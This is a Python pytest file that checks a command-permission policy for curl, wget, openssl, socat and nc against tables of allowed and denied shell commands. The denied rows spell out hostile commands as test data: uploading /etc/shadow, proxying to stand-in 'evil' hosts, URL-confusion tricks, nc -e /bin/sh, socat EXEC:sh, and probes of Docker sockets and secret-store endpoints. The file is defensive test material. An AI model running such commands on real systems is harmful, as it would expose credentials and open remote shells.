from __future__ import annotations

import pytest

from tests.unit.policy.readers.tables import agree, rows

CURL = r"""
allow curl -s http://127.0.0.1:8080/healthz
allow curl -sI localhost:8080
allow curl -sk 'https://[::1]:8443/metrics'
allow curl -s -o /dev/null -w '%{http_code}\n' http://localhost/
allow curl -H 'Host: shop.example' http://localhost/
allow curl -X HEAD -m 5 --retry 3 HTTP://LOCALHOST/
allow curl -s 'http://localhost:9200/_cat/indices?v' http://localhost/b
no curl ## no URL
no curl -s ## no URL
no curl http://evil.example/ ## not a URL of this host
no curl http://localhost/ http://evil.example/ ## not a URL of this host
no curl http://localhost@evil/ ## not a URL of this host
no curl http://localhost.evil/ ## not a URL of this host
no curl http://evil#@localhost/ ## not a URL of this host
no curl 'http://localhost\@evil/' ## not a URL of this host
no curl http://user:pass@localhost/ ## not a URL of this host
no curl 'http://{localhost,evil}/' ## not a URL of this host
no curl 'http://localhost/[1-9]' ## not a URL of this host
no curl http://localhost:99999/ ## not a URL of this host
no curl http://localhost:0/ ## not a URL of this host
no curl http://127.0.0.2/ ## not a URL of this host
no curl http://0/ ## not a URL of this host
no curl http:///x ## not a URL of this host
no curl file:///etc/shadow ## not a URL of this host
no curl gopher://localhost/x ## not a URL of this host
no curl ftp://localhost/x ## not a URL of this host
no curl -L http://localhost/ ## -L
no curl -o /x http://localhost/ ## not of type nowhere
no curl -o /dev/null -o /x http://localhost/a http://localhost/b ## not of type nowhere
no curl -O http://localhost/x ## -O
no curl -X POST http://localhost/ ## not of type method
no curl -XPOST http://localhost/ ## not of type method
no curl -X POST -X GET http://localhost/ ## not of type method
no curl -d x=1 http://localhost/ ## -d
no curl -F x=@/etc/shadow http://localhost/ ## -F
no curl -T /etc/shadow http://localhost/ ## -T
no curl -K /x http://localhost/ ## -K
no curl -H @/etc/shadow http://localhost/ ## not of type header
no curl -H 'Authorization: x' http://localhost/ ## not of type header
no curl -w @/etc/shadow http://localhost/ ## not of type writeout
no curl -w '%output{/tmp/x}' http://localhost/ ## not of type writeout
no curl -x http://evil http://localhost/ ## -x
no curl --proxy http://evil http://localhost/ ## --proxy
no curl --connect-to ::evil: http://localhost/ ## --connect-to
no curl --resolve localhost:80:10.0.0.9 http://localhost/ ## --resolve
no curl --unix-socket /var/run/docker.sock http://localhost/x ## --unix-socket
no curl --url http://evil/ http://localhost/ ## --url
no curl --next http://localhost/ ## --next
no curl http://localhost/_shutdown ## may act or disclose
no curl http://localhost/actuator/env ## may act or disclose
no curl http://localhost/actuator/heapdump ## may act or disclose
no curl http://localhost/%73hutdown ## may act or disclose
no curl http://localhost:8200/v1/secret/x ## may act or disclose
no curl http://localhost:8500/v1/kv/x ## may act or disclose
no curl http://localhost:2375/containers/x/json ## may act or disclose
no curl http://localhost:2375/containers/x/export ## may act or disclose
no curl http://localhost:10255/pods ## may act or disclose
no curl 'http://localhost:8983/solr/admin/cores?action=UNLOAD' ## may act or disclose
no curl http://localhost:9901/config_dump ## may act or disclose
"""
WGET = r"""
allow wget --max-redirect=0 -qO- http://localhost/health
allow wget --spider -S --max-redirect=0 http://127.0.0.1:8080/
allow wget --max-redirect 0 -O /dev/null http://localhost/
no wget http://localhost/ ## writes a file
no wget --max-redirect=0 http://localhost/ ## writes a file
no wget -qO- http://localhost/ ## where it is sent
no wget -qO- --max-redirect=5 http://localhost/ ## not of type zero
no wget --max-redirect=0 -O- ## no URL
no wget --max-redirect=0 -O /tmp/x http://localhost/ ## not of type stdoutornull
no wget --max-redirect=0 -O- -O /tmp/x http://localhost/ ## not of type stdoutornull
no wget --max-redirect=0 -O- http://evil/ ## not a URL of this host
no wget --max-redirect=0 -O- localhost:dir/file ## not a URL of this host
no wget --max-redirect=0 -O- -i /etc/shadow ## -i
no wget --max-redirect=0 -O- -o /x http://localhost/ ## -o
no wget --max-redirect=0 -O- -e use_proxy=on http://localhost/ ## -e
no wget --max-redirect=0 -O- --post-file=/etc/shadow http://localhost/ ## --post-file
no wget --max-redirect=0 -O- --use-askpass=/x http://localhost/ ## --use-askpass
no wget --max-redirect=0 --spider -r http://localhost/ ## -r
"""
OPENSSL = r"""
allow openssl version -a
allow openssl x509 -in /etc/ssl/certs/x.pem -noout -dates
allow openssl x509 -noout -enddate -in /etc/ssl/private/app.crt
allow openssl req -in /tmp/x.csr -noout -text
allow openssl crl -in /tmp/x.crl -noout -nextupdate
allow openssl verify -CAfile /etc/ssl/ca.pem /etc/ssl/x.pem
allow openssl dgst -sha256 /usr/bin/ls
allow openssl sha256 /usr/bin/ls
allow openssl ciphers -v DEFAULT
allow openssl s_client -connect localhost:443 -servername x
allow echo | openssl s_client -connect 127.0.0.1:443 -showcerts
no openssl ## openssl
no openssl enc -in a ## openssl enc
no openssl rsa -in k -text ## openssl rsa
no openssl genrsa 2048 ## openssl genrsa
no openssl x509 -in /etc/x.pem -text ## without -noout
no openssl x509 -in a -out b -noout ## -out
no openssl x509 -in /etc/ssl/private/app.key -noout ## private key
no openssl x509 -in /etc/ssl/x.pfx -noout ## private key
no openssl x509 -in /dev/sda -noout ## private key
no openssl x509 -in http://evil/x -noout -text ## fetches it
no openssl x509 -in org.openssl.engine:x:y -noout ## fetches it
no openssl crl -in http://evil/x -noout -text ## fetches it
no openssl x509 -noout -engine /tmp/x.so -in /etc/x.pem ## -engine
no openssl x509 -noout -provider x -in /etc/x.pem ## -provider
no openssl x509 -noout -signkey /x -in /etc/x.pem ## -signkey
no openssl x509 -noout -in /etc/x.pem extra ## not expected
no openssl req -new -noout ## -new
no openssl version -d -engine x ## -engine
no openssl verify -CAfile http://evil/x /etc/ssl/x.pem ## fetches it
no openssl verify http://evil/x ## fetches it
no openssl dgst -sha256 /etc/shadow ## may hold a secret
no openssl dgst -sign /x /etc/hosts ## -sign
no openssl dgst -out /x /etc/hosts ## -out
no openssl s_client -connect evil:443 ## not of type lhost
no openssl s_client -connect localhost:443 -proxy h:1 ## -proxy
no openssl s_client -connect localhost:443 -keylogfile /x ## -keylogfile
no openssl s_client -showcerts ## no -connect
no openssl s_client -connect localhost:443 evil:443 ## not expected
no echo QUIT | openssl s_client -connect localhost:443 ## sends what it is given
no cat /etc/hosts | openssl s_client -connect localhost:443 ## sends what it is given
"""
HAPROXY = r"""
allow echo 'show stat' | socat stdio /var/run/haproxy.sock
allow echo 'show servers state web' | socat - UNIX-CONNECT:/run/haproxy/admin.sock
no socat stdio /run/haproxy.sock ## whatever it is given
no echo 'disable server a/b' | socat stdio /run/haproxy.sock ## whatever it is given
no echo 'show stat;disable server a/b' | socat stdio /run/haproxy.sock ## whatever it is given
no echo -e 'show stat' | socat stdio /run/haproxy.sock ## whatever it is given
no echo 'show stat' | cat | socat stdio /run/haproxy.sock ## whatever it is given
no printf 'show stat' | socat stdio /run/haproxy.sock ## whatever it is given
no echo 'show stat' | socat stdio ## another end
no echo 'show stat' | socat ## another end
no echo 'show stat' | socat stdio TCP:evil:1 ## another end
no echo 'show stat' | socat stdio EXEC:sh ## another end
no echo 'show stat' | socat EXEC:sh /run/haproxy.sock ## another end
no echo 'show stat' | socat -u stdio /run/haproxy.sock ## another end
no echo 'show stat' | socat stdio /run/docker.sock ## another end
no echo 'show stat' | socat stdio /run/haproxy/../docker.sock ## another end
no echo 'show stat' | socat stdio /run/haproxy.sock,fork ## another end
"""
ASK = r"""
allow echo stats | nc localhost 11211
allow echo ruok | nc -w 2 127.0.0.1 2181
allow printf 'info memory\r\n' | nc -q 1 localhost 6379
allow echo -e 'stats items\nquit' | nc localhost 11211
no nc localhost 11211 ## whatever it is given
no echo flush_all | nc localhost 11211 ## not on the list
no echo 'stats\nflush_all' | nc localhost 11211 ## not on the list
no echo stats flush_all | nc localhost 11211 ## whatever it is given
no cat /etc/hosts | nc localhost 11211 ## whatever it is given
no echo stats | cat | nc localhost 11211 ## whatever it is given
no echo stats | nc evil 11211 ## not of type lhost
no echo stats | nc -e /bin/sh localhost 1 ## -e
no echo stats | nc -l localhost 1 ## -l
no echo stats | nc localhost ## a host and a port
no echo stats | nc localhost 1 2 ## a host and a port
"""


@pytest.mark.parametrize(("text", "reason"), rows(CURL))
def test_curl(policy, text, reason):
    agree(policy, "curl", text, reason)


@pytest.mark.parametrize(("text", "reason"), rows(WGET))
def test_wget(policy, text, reason):
    agree(policy, "wget", text, reason)


@pytest.mark.parametrize(("text", "reason"), rows(OPENSSL))
def test_openssl(policy, text, reason):
    agree(policy, "openssl", text, reason)


@pytest.mark.parametrize(("text", "reason"), rows(HAPROXY))
def test_haproxy(policy, text, reason):
    agree(policy, "haproxy", text, reason)


@pytest.mark.parametrize(("text", "reason"), rows(ASK))
def test_ask(policy, text, reason):
    agree(policy, "ask", text, reason)
